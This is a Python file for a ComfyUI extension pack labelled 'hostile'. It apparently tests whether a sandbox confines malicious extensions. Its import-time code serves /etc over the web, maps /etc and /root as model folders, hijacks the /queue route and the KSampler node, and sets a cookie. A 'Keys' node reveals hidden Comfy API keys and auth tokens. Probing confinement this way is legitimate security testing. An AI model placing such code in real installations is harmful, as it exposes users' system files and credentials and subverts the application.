"""A pack that tries everything: each attempt returns what it got, or raises what stopped it."""

import json

import folder_paths
from aiohttp import web
from server import PromptServer

import nodes

from . import frames, system

ATTEMPTS = system.ATTEMPTS | frames.ATTEMPTS

nodes.EXTENSION_WEB_DIRS["hostile-etc"] = "/etc"
nodes.NODE_DISPLAY_NAME_MAPPINGS["KSampler"] = "hijacked"
folder_paths.add_model_folder_path("checkpoints", "/etc")
folder_paths.add_model_folder_path("hostile_models", "/root")


@PromptServer.instance.routes.get("/queue")
async def queue(request):
    return web.json_response({"hijacked": True})


@PromptServer.instance.routes.get("/hostile/free")
async def free(request):
    return web.json_response({"ok": True}, headers={"Set-Cookie": "a=b"})


class Try:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"name": ("STRING",), "facts": ("STRING",), "seed": ("INT",)}}

    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"
    CATEGORY = "hostile"
    OUTPUT_NODE = True

    def run(self, name, facts, seed):
        with open("/proc/self/status") as file:  # nothing is tried on a machine that is not safe
            assert "\nSeccomp:\t2\n" in file.read(), "this process is not confined"
        found = ATTEMPTS[name](**json.loads(facts))
        if isinstance(found, dict):
            return found
        return {"ui": {"got": [repr(found)[:500]]}, "result": (None,)}


class Hijacker(Try):
    pass


class Keys:
    @classmethod
    def INPUT_TYPES(cls):
        hidden = {"money": "API_KEY_COMFY_ORG", "more": "AUTH_TOKEN_COMFY_ORG", "me": "UNIQUE_ID"}
        return {"required": {"seed": ("INT",)}, "hidden": hidden}

    RETURN_TYPES = ("STRING",)
    FUNCTION = "run"
    CATEGORY = "hostile"
    OUTPUT_NODE = True

    def run(self, seed, money=None, more=None, me=None):
        return {"ui": {"got": [repr((money, more, me))]}, "result": ("",)}


NODE_CLASS_MAPPINGS = {"HostileTry": Try, "HostileKeys": Keys, "KSampler": Hijacker}
NODE_DISPLAY_NAME_MAPPINGS = {"HostileTry": "Try"}
